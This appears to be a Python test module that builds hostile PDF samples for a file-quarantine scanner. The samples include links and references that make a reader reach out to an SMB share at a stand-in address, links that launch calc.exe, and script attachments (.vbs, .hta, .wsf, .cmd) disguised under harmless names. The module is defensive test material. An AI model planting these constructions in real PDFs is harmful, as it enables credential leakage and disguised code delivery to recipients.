"""PDFs on which two readers disagree, or whose danger lies where only one of them looks: one trick each.

The small files of `vectors/quarantine/pdf/` were made by hand for this project; their siblings are made here.
"""

from collections.abc import Callable
from pathlib import Path
from typing import Final

from tests.builders.pdf_files import annotation, deflated, pdf, stream

TRICKS: Final[dict[str, Callable[[], bytes]]] = {}
FILES: Final = Path(__file__).parents[1] / "vectors/quarantine/pdf"
SHARE: Final = b"\\\\\\\\192.0.2.1\\\\share\\\\a.pdf"


def trick(make: Callable[[], bytes]) -> Callable[[], bytes]:
    TRICKS[make.__name__] = make
    return make


for _file in sorted(FILES.glob("*.pdf")):
    TRICKS[_file.stem] = _file.read_bytes


def link(action: bytes) -> bytes:
    return annotation(b"/Subtype /Link /A << " + action + b" >>")


def named(names: bytes, content: bytes = b"hello\n", tree_key: bytes = b"(a)") -> bytes:
    """An attachment with these names in its file specification."""
    spec = b"<< /Type /Filespec " + names + b" /EF << /F 7 0 R >> >>"
    tree = b"/Names << /EmbeddedFiles << /Names [" + tree_key + b" 6 0 R] >> >>"
    return pdf(tree, spec, deflated(content, b"/Type /EmbeddedFile"))


# Paths.


@trick
def p41_limit_gotor_unc() -> bytes:
    many = b"/X [" + b"0 " * 100_001 + b"]"
    return annotation(b"/Subtype /Link /A << /S /GoToR /D [0 /Fit] /F (" + SHARE + b") >> " + many)


@trick
def thread_of_a_share_on_a_click() -> bytes:
    return link(b"/S /Thread /F (" + SHARE + b") /D 0")


@trick
def destination_of_a_share_in_goto() -> bytes:
    return pdf(b"/OpenAction << /S /GoTo /F << /Type /Filespec /UF (" + SHARE + b") >> /D [0 /Fit] >>")


@trick
def reference_xobject_of_a_share() -> bytes:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (" + SHARE + b") /Page 0 >>"
    return pdf(b"", stream(b"", form))


@trick
def reference_xobject_online() -> bytes:
    return pdf(b"", stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (http://192.0.2.1/a) >>"))


@trick
def prepress_picture_of_a_share() -> bytes:
    return pdf(b"", stream(b"", b"/Subtype /Form /OPI << /1.3 << /Type /OPI /Version 1.3 /F (" + SHARE + b") >> >>"))


@trick
def prepress_picture_of_version_2() -> bytes:
    return pdf(b"", stream(b"", b"/Subtype /Form /OPI << /2.0 << /Type /OPI /F << /F (" + SHARE + b") >> >> >>"))


@trick
def share_before_all_links() -> bytes:
    return pdf(b"/URI << /Base (smb://192.0.2.1/share/) >>", b"<< /S /URI /URI (a.html) >>")


@trick
def share_behind_a_local_path() -> bytes:
    return link(b"/S /GoToR /D [0 /Fit] /F << /Type /Filespec /F (a.pdf) /UF (" + SHARE + b") >>")


@trick
def share_for_one_system() -> bytes:
    return link(b"/S /GoToR /D [0 /Fit] /F << /Type /Filespec /F (a.pdf) /DOS (" + SHARE + b") >>")


@trick
def share_of_a_specification_alone() -> bytes:
    return pdf(b"", b"<< /Type /Filespec /F (" + SHARE + b") >>")


@trick
def share_with_slashes() -> bytes:
    return link(b"/S /URI /URI (//192.0.2.1/share/a)")


@trick
def share_as_a_file_address() -> bytes:
    return link(b"/S /URI /URI (file:////192.0.2.1/share/a)")


@trick
def share_as_an_escaped_file_address() -> bytes:
    return link(b"/S /URI /URI (file:///%5c%5c192.0.2.1%5cshare)")


@trick
def share_behind_localhost() -> bytes:
    return link(b"/S /URI /URI (file://localhost//192.0.2.1/share)")


@trick
def share_mounted_by_itself() -> bytes:
    return link(b"/S /URI /URI (file:///net/192.0.2.1/share)")


@trick
def share_of_the_web() -> bytes:
    return link(b"/S /URI /URI (dav://192.0.2.1/share)")


@trick
def program_of_this_machine() -> bytes:
    return link(b"/S /URI /URI (file:///C:/Windows/System32/calc.exe)")


@trick
def document_of_this_machine() -> bytes:
    return link(b"/S /GoToR /D [0 /Fit] /F (C:\\\\Users\\\\anna\\\\a.pdf)")


@trick
def document_of_this_machine_two_slashes() -> bytes:
    return link(b"/S /URI /URI (file://C:/Users/anna/a.docx)")


@trick
def document_of_a_unix_home() -> bytes:
    return link(b"/S /URI /URI (file:///home/anna/a.odt)")


# Attachments by name.


@trick
def attached_shortcut_by_name() -> bytes:
    return named(b"/F (invoice.url) /UF (invoice.url)", b"hello\n")


@trick
def attached_script_named_in_unicode_only() -> bytes:
    return named(b"/F (a.txt) /UF <FEFF0061002E006A0073>")


@trick
def attached_script_named_for_one_system() -> bytes:
    return named(b"/F (a.txt) /DOS (a.vbs)")


@trick
def attached_script_named_in_the_tree() -> bytes:
    return named(b"/F (a.txt)", tree_key=b"(a.hta)")


@trick
def attached_script_with_a_document_name_before() -> bytes:
    return named(b"/F (a.pdf                        .wsf)")


@trick
def attached_script_of_an_annotation() -> bytes:
    annot = b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.cmd) /EF << /F 7 0 R >> >> >>"
    return pdf(b"", annot, deflated(b"calc\n", b"/Type /EmbeddedFile"), page=b"/Annots [6 0 R]")


# What identifies.


@trick
def attachment_from_a_home_folder() -> bytes:
    return named(b"/F (/home/anna/notes.txt) /UF (C:\\\\Users\\\\anna\\\\notes.txt)")


@trick
def title_of_a_word_file() -> bytes:
    return pdf(b"", b"<< /Title (C:\\\\Users\\\\anna\\\\report.docx) >>", trailer=b"/Info 6 0 R")


@trick
def subject_with_a_path_inside() -> bytes:
    return pdf(b"", b"<< /Subject (Microsoft Word - /home/anna/report.docx) >>", trailer=b"/Info 6 0 R")


@trick
def xmp_title_with_a_path() -> bytes:
    xmp = b"<x:xmpmeta><dc:title>file:///Users/anna/a.html</dc:title></x:xmpmeta>"
    return pdf(b"/Metadata 6 0 R", stream(xmp, b"/Type /Metadata /Subtype /XML"))
